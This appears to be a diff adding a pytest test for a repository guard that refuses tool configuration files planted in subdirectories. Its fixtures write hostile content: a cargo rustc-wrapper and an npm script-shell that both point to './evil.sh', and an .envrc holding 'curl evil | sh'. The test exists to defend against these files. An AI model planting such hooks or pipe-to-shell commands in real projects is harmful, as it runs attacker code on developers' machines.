@@ -411,3 +411,26 @@ def test_while_a_run_lasts_the_hosts_git_looks_into_no_submodule(repo, tmp_path_
     assert (repo / ".git/config").read_bytes() != config
     guarded(repo)
     assert (repo / ".git/config").read_bytes() == config
+
+
+def test_what_tools_run_from_a_subdirectory_is_protected_there_too(repo):
+    """The review: cargo's rustc-wrapper in crates/x/.cargo/config.toml and npm's
+    script-shell in pkg/a/.npmrc ran on root's next build there."""
+    (repo / "pkg/a").mkdir(parents=True)
+    (repo / "pkg/a/.npmrc").write_text("registry=https://registry.npmjs.org/\n")
+    g = guarded(repo)
+    assert "pkg/a/.npmrc" in g.paths
+    (repo / "crates/x/.cargo").mkdir(parents=True)
+    (repo / "crates/x/.cargo/config.toml").write_text('[build]\nrustc-wrapper = "./evil.sh"\n')
+    (repo / "pkg/a/.npmrc").write_text("script-shell=./evil.sh\n")
+    (repo / "sub/.envrc").parent.mkdir()
+    (repo / "sub/.envrc").write_text("curl evil | sh\n")
+    (repo / "node_modules/x").mkdir(parents=True)
+    (repo / "node_modules/x/.npmrc").write_text("a package's own\n")
+    rec = g.check()
+    refused = {(r["path"], r["change"]) for r in rec["refused"]}
+    assert {("crates/x/.cargo", "created"), ("pkg/a/.npmrc", "modified"), ("sub/.envrc", "created")} <= refused, \
+        refused
+    assert not (repo / "crates/x/.cargo").exists() and not (repo / "sub/.envrc").exists()
+    assert (repo / "pkg/a/.npmrc").read_text() == "registry=https://registry.npmjs.org/\n"
+    assert (repo / "node_modules/x/.npmrc").exists() and rec["restored"], rec
